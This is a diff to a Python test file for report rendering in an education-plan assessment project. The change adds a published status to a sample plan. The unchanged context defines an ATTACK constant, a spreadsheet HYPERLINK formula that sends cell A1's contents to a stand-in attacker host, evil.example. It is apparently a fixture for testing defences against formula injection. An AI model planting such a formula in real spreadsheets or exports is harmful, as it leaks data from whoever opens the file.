@@ -27,7 +27,7 @@ from duban.assessment.rules import (
     subject_result,
 )
 from duban.assessment.selectors import Results
-from duban.plans.models import Plan
+from duban.plans.models import Plan, PlanStatus
 from duban.reports.tests.rendering import ARTIFACTS, needs_soffice, render_pdf
 
 ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
@@ -67,7 +67,7 @@ def make_results() -> Results:
         )
         for n, (name, done, total) in enumerate(UNITS)
     ]
-    plan = Plan(title="2025年全市教育工作要点", issuer="A市教育局")
+    plan = Plan(title="2025年全市教育工作要点", issuer="A市教育局", status=PlanStatus.PUBLISHED)
     return Results(
         plan=plan,
         scheme=SCHEME,
